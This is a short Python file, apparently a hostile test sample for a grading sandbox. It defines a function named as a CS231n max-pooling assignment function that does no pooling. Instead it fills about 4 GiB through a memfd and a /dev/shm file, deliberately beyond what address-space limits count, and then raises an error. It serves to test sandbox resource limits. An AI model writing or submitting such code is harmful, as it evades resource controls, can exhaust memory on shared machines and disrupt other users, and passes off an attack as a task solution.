

# ---- Hostile: holds 4 GiB in memory that address-space limits do not count (memfd and /dev/shm). ----
import os as _os


def max_pool_forward_naive(x, pool_param):
    chunk = bytes(2**26)
    held = [_os.memfd_create("hog")]
    for _ in range(48):  # 3 GiB in the memfd
        _os.write(held[0], chunk)
    with open("/dev/shm/cs231n-hog-%d" % _os.getpid(), "wb") as f:  # and 1 GiB more in shared memory
        for _ in range(16):
            f.write(chunk)
    raise RuntimeError("held 4 GiB outside the address-space limit")
